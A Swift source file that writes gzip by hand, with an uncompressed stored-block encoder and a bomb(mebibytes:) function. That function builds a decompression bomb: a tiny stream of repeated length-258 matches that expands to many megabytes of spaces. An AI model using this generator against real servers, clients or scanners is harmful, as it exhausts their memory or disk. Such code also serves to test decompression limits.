/// Writes gzip (RFC 1952) without a library: as it is, and as a bomb.
enum Gzip {
  private static let header: [UInt8] = [0x1F, 0x8B, 8, 0, 0, 0, 0, 0, 0, 3]

  /// Bytes in stored blocks.
  static func stored(_ bytes: [UInt8]) -> [UInt8] {
    var output = header
    var rest = bytes[...]
    repeat {
      let block = rest.prefix(65_535)
      rest = rest.dropFirst(block.count)
      let length = UInt16(block.count)
      output.append(rest.isEmpty ? 1 : 0)
      for value in [length, ~length] { output += [UInt8(truncatingIfNeeded: value), UInt8(value >> 8)] }
      output += block
    } while !rest.isEmpty
    return output + littleEndian(checksum(bytes)) + littleEndian(UInt32(truncatingIfNeeded: bytes.count))
  }

  /// So many MiB of spaces as one fixed-Huffman block of matches of length 258 at distance 1, about 1/160 of the size.
  static func bomb(mebibytes: Int) -> [UInt8] {
    var bits = BitWriter(header)
    bits.write(1, 1)
    bits.write(1, 2)
    bits.writeReversed(0x30 + 0x20, 8)
    for _ in 0..<(mebibytes << 20) / 258 {
      bits.writeReversed(0xC0 + (285 - 280), 8)
      bits.writeReversed(0, 5)
    }
    bits.writeReversed(0, 7)
    return bits.finished() + [0, 0, 0, 0, 0, 0, 0, 0]
  }

  private static func checksum(_ bytes: [UInt8]) -> UInt32 {
    var value: UInt32 = 0xFFFF_FFFF
    for byte in bytes {
      value ^= UInt32(byte)
      for _ in 0..<8 { value = value >> 1 ^ (value & 1 == 1 ? 0xEDB8_8320 : 0) }
    }
    return ~value
  }

  private static func littleEndian(_ value: UInt32) -> [UInt8] {
    (0..<4).map { UInt8(truncatingIfNeeded: value >> (8 * UInt32($0))) }
  }
}

private struct BitWriter {
  private var bytes: [UInt8]
  private var pending: UInt32 = 0
  private var count: UInt32 = 0

  init(_ bytes: [UInt8]) { self.bytes = bytes }

  mutating func write(_ value: UInt32, _ width: UInt32) {
    pending |= value << count
    count += width
    while count >= 8 {
      bytes.append(UInt8(truncatingIfNeeded: pending))
      pending >>= 8
      count -= 8
    }
  }

  /// Huffman codes go most significant bit first.
  mutating func writeReversed(_ value: UInt32, _ width: UInt32) {
    for bit in (0..<width).reversed() { write(value >> bit & 1, 1) }
  }

  func finished() -> [UInt8] { count > 0 ? bytes + [UInt8(truncatingIfNeeded: pending)] : bytes }
}
